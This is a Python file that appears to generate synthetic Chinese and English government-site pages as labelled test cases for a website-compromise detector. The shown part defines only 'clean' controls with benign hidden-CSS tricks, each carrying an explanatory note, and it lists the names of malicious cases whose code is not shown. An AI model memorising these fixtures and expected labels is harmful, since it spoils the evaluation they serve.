        '<a href="/bsfw/sbns/">申报纳税</a> <a href="/bsfw/jmsq/">减免税申请</a> <a href="/bsfw/12366/">12366纳税服务</a></div>'
    )
    home = zh_portal(name, cols, mid_extra=services, title=name)
    return BlindSite(
        "c02_tax",
        "qingxi-demo.fujian.chinatax.gov.cn",
        name,
        zh_pages(name, cols, home),
        _clean(
            cols,
            note="a tax bureau: 发票查验 and 代开发票 are its own services (代开发票 is a real "
            "government service: the bureau issues invoices for those who cannot)",
        ),
        "clean",
    )


def c03_sports() -> BlindSite:
    name = "南安市体育局"
    news = [
        ("我市举办2026年全民健身运动会", ago(0)),
        ("市体育局开展体育彩票销售网点规范管理检查", ago(3)),
        ("南安市青少年足球联赛开幕", ago(6)),
        ("体彩公益金助力社区健身路径建设", ago(9)),
        ("市体育局召开冬季体育赛事安全工作会", ago(13)),
    ]
    notices = [
        ("关于中国足球彩票竞彩游戏销售规则调整的公告", ago(2)),
        ("关于暂停销售部分足球彩票玩法的通知", ago(17)),
        ("关于2026年体育彩票代销者招募的公告", ago(40)),
        ("关于征集体育彩票公益金资助项目的通知", ago(75)),
    ]
    rules = [
        ("中国足球彩票竞彩游戏规则（胜平负、比分、总进球）", ago(2)),
        ("体育彩票管理工作规范（试行）", ago(55)),
        ("彩票管理条例实施细则", ago(150)),
    ]
    cols = [
        Column("体育新闻", "tyxw", "news", news),
        Column("通知公告", "tzgg", "notice", notices),
        Column("政策法规", "zcfg", "policy", rules),
    ]
    home = zh_portal(name, cols, title=f"{name}门户网站")
    return BlindSite(
        "c03_sports",
        "tyj.nanan-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _clean(cols, note="a sports bureau: 足球彩票 / 竞彩 sales rules, 体彩 outlets, 公益金"),
        "clean",
    )


def c04_logo_skip() -> BlindSite:
    name = "云和县人民政府"
    cols = zh_std_cols(random.Random(704))
    css = (
        ".header .logo a{display:block;width:520px;height:90px;background:url(/images/logo.png) no-repeat;text-indent:-9999px;overflow:hidden}"
        ".skip{position:absolute;left:-9999px;top:0}.skip:focus{left:10px;z-index:999}"
    )
    logo = f'<h1 class="logo"><a href="/" title="{name}">{name}</a></h1>'
    top = '<a class="skip" href="#main">跳转到主要内容</a>'
    home = zh_portal(name, cols, css_extra=css, logo=logo, body_top=top)
    return BlindSite(
        "c04_logo_skip",
        "www.yunhe-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _clean(
            cols,
            note="logo image replacement (text-indent:-9999px on the logo's own link) and a "
            "skip link at left:-9999px to #main: both the site's own",
        ),
        "clean",
    )


def c05_a11y_font0() -> BlindSite:
    name = "景宁畲族自治县人民政府"
    cols = zh_std_cols(random.Random(705))
    css = (
        ".wza-bar{font-size:0;background:#fffbe6;border-bottom:1px solid #f0d98c}"
        ".wza-bar a,.wza-bar span{display:inline-block;font-size:16px;padding:0 10px;line-height:40px}"
        ".gov-links ul{font-size:0;letter-spacing:0}.gov-links li{display:inline-block;font-size:15px;width:20%}"
        ".oldage{font-size:0}.oldage a{font-size:18px}"
    )
    bar = (
        '<div class="wza-bar" role="toolbar" aria-label="无障碍工具条"><span>无障碍浏览：</span>'
        '<a href="javascript:;" onclick="aria.zoomIn()">放大</a><a href="javascript:;" onclick="aria.zoomOut()">缩小</a>'
        '<a href="javascript:;" onclick="aria.highContrast()">高对比度</a><a href="javascript:;" onclick="aria.speech()">语音朗读</a>'
        '<a href="javascript:;" onclick="aria.cursor()">大鼠标</a><a href="/oldage/" class="oldage">适老化版本</a></div>'
    )
    gl = [
        ("中国政府网", "https://www.gov.cn/"),
        ("浙江政务服务网", "https://www.zjzwfw.gov.cn/"),
        ("浙江省人民政府", "https://www.zj.gov.cn/"),
        ("丽水市人民政府", "https://www.lishui.gov.cn/"),
        ("国家政务服务平台", "https://gjzwfw.www.gov.cn/"),
    ]
    links = (
        '<div class="gov-links w1200"><h4>政府网站</h4><ul>'
        + "".join(f'<li><a href="{u}" target="_blank">{t}</a></li>' for t, u in gl)
        + "</ul></div>"
    )
    home = zh_portal(name, cols, css_extra=css, body_top=bar, mid_extra=links)
    return BlindSite(
        "c05_a11y_font0",
        "www.jingning-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _clean(
            cols,
            note="font-size:0 on toolbars and link lists to close inline-block gaps, each "
            "child's font-size set again: everything is visible",
        ),
        "clean",
    )


def c06_en_hidden_ui() -> BlindSite:
    name = "Westmere District Council"
    cols = en_std_cols(random.Random(706))
    css = (
        ".visually-hidden{position:absolute!important;clip:rect(0 0 0 0);clip-path:inset(50%);width:1px;height:1px;overflow:hidden;white-space:nowrap}"
        ".accordion__panel{height:0;overflow:hidden;transition:height .3s}.accordion__panel.is-open{height:auto}"
        ".carousel__slide{opacity:0;position:absolute;transition:opacity .6s}.carousel__slide.is-active{opacity:1;position:relative}"
    )
    ext = [
        ("GOV.UK: Council Tax", "https://www.gov.uk/council-tax"),
        ("Citizens Advice", "https://www.citizensadvice.org.uk/"),
        ("NHS 111 online", "https://111.nhs.uk/"),
        ("Environment Agency flood warnings", "https://check-for-flooding.service.gov.uk/"),
        ("Police: report a crime", "https://www.police.uk/"),
    ]
    acc = "".join(
        f'<div class="accordion__item"><h3><button aria-expanded="false" aria-controls="p{i}">{t.split(":")[0]}</button></h3>'
        f'<div class="accordion__panel" id="p{i}"><p>Help from other organisations: <a href="{u}" rel="external">{t}'
        f'<span class="visually-hidden"> (opens in a new window)</span></a></p></div></div>'
        for i, (t, u) in enumerate(ext)
    )
    slides = "".join(
        f'<div class="carousel__slide{" is-active" if i == 0 else ""}"><a href="/{s}"><img src="/img/slide{i}.jpg" alt=""><span>{t}</span></a></div>'
        for i, (t, s) in enumerate(
            [
                ("Winter ready: gritting and flood advice", "winter"),
                ("Have your say on the Local Plan", "local-plan"),
                ("Christmas bin collections", "bins/christmas"),
            ]
        )
    )
    mid = (
        f'<section class="carousel" aria-roledescription="carousel">{slides}</section>'
        f'<section class="accordion"><h2>Get help and advice</h2>{acc}</section>'
    )
    home = en_portal(name, cols, css_extra=css, mid_extra=mid)
    return BlindSite(
        "c06_en_hidden_ui",
        "www.westmere-demo.gov.uk",
        name,
        en_pages(name, cols, home),
        _clean(
            cols,
            note="a visually-hidden class (clip:rect(0 0 0 0)) for screen-reader text, "
            "accordion panels collapsed by height:0;overflow:hidden holding links to GOV.UK, NHS, "
            "police, and carousel slides faded by opacity:0: ordinary UI, no spam",
        ),
        "clean",
    )


def all_sites() -> list[BlindSite]:
    return [
        d01_deface_en(),
        d02_deface_id(),
        d03_deface_tr(),
        d04_deface_zh(),
        d05_deface_kept_title(),
        s06_miner(),
        s07_cdn_script(),
        s08_charcode_loader(),
        s09_iframe_1x1(),
        h10_font0(),
        h11_same_color(),
        h12_text_indent(),
        h13_height0(),
        h14_clip_text(),
        h15_opacity(),
        h16_marquee1(),
        v17_seo_news(),
        v18_invoice_gun(),
        v19_subdir(),
        v20_korean(),
        v21_japanese(),
        c01_police(),
        c02_tax(),
        c03_sports(),
        c04_logo_skip(),
        c05_a11y_font0(),
        c06_en_hidden_ui(),
    ]


SITES = all_sites()
